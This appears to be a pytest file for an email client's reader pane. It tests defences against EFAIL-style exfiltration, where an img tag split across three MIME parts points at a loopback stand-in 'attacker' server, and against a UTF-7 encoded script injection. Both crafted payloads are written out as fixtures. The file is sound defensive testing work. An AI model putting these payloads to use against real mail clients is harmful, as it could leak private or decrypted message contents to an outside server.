"""EFAIL direct exfiltration (checklist H6): an ``<img src='http://attacker/?`` opened in one
HTML part and closed two parts later must never carry the middle part to the server, with
remote content blocked or allowed. A loopback HTTP server is "the attacker"."""

from __future__ import annotations

import pytest

from tests.ui.reader.test_html_reader import _page_text
from ui.qt.dates import babel_locale
from ui.reader.content import build_content, row_from_headers
from ui.reader.pane import ReaderPane


def _three_parts(base: str) -> bytes:
    parts = [f"<img src='{base}/exfil?", "<p>SECRET-BANK-CODE 4711</p>", "'>"]
    body = "".join(
        f"--B\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{part}\r\n" for part in parts
    )
    return (
        "From: Buyer <buyer@attacker.example>\r\nTo: mei.lin@harbor-lighting.example\r\n"
        "Subject: Order 7781\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="B"\r\n\r\n' + body + "--B--\r\n"
    ).encode()


@pytest.mark.parametrize("allow_remote", [False, True])
def test_split_img_tag_across_parts_sends_nothing(qtbot, internet, allow_remote: bool) -> None:  # type: ignore[no-untyped-def]
    base, hits = internet
    raw = _three_parts(base)
    content = build_content(row_from_headers(raw), raw, allow_remote, f"efail{int(allow_remote)}")
    assert content.remote_allowed is allow_remote
    pane = ReaderPane(babel_locale("en_US"))
    qtbot.addWidget(pane)
    pane.resize(700, 500)
    pane.show()
    pane.show_content(content)
    view = pane.html_view
    assert view is not None and pane.stack.currentWidget() is view
    with qtbot.waitSignal(view.loadFinished, timeout=20000):
        pass  # the load show_content started ends in the event loop: its pictures requested
    assert "SECRET-BANK-CODE 4711" in _page_text(qtbot, view)
    assert hits == []
    assert not any("SECRET" in url for url in view.interceptor.blocked() + view.interceptor.loaded())


def test_utf7_html_part_is_shown_as_text_with_a_notice(qtbot) -> None:  # type: ignore[no-untyped-def]
    raw = (
        b"From: a@attacker.example\r\nTo: mei.lin@harbor-lighting.example\r\nSubject: utf7\r\n"
        b"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-7\r\n\r\n"
        b"+ADw-b+AD4-Offer+ADw-/b+AD4-+ADw-script+AD4-document.title='ran'+ADw-/script+AD4-\r\n"
    )
    content = build_content(row_from_headers(raw), raw, False, "utf7")
    assert content.refused_charsets == ("utf-7",)
    pane = ReaderPane(babel_locale("en_US"))
    qtbot.addWidget(pane)
    pane.show()
    pane.show_content(content)
    assert "utf-7 is shown as plain text" in pane.notice.text() and pane.notice_bar.isVisibleTo(pane)
    assert pane.stack.currentWidget() is pane.body  # the plain-text view, never the HTML one
    assert "<b>Offer</b><script>" in pane.body.toPlainText()  # literally, as text


def test_data_pictures_are_shown_not_blocked(qtbot, internet) -> None:  # type: ignore[no-untyped-def]
    base, hits = internet
    gif = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
    raw = (
        "From: a@b.example\r\nTo: c@d.example\r\nSubject: pic\r\nMIME-Version: 1.0\r\n"
        "Content-Type: text/html; charset=utf-8\r\n\r\n"
        f"<p>logo</p><img id=pic src='{gif}'><img src='{base}/remote.png'>\r\n"
    ).encode()
    content = build_content(row_from_headers(raw), raw, False, "datapic")
    assert content.html is not None and gif in content.html.html
    pane = ReaderPane(babel_locale("en_US"))
    qtbot.addWidget(pane)
    pane.show()
    pane.show_content(content)
    view = pane.html_view
    with qtbot.waitSignal(view.loadFinished, timeout=20000):
        pass  # the load show_content started ends in the event loop: its pictures requested
    assert "logo" in _page_text(qtbot, view)
    assert not any(url.startswith("data:") for url in view.interceptor.blocked())
    assert hits == []
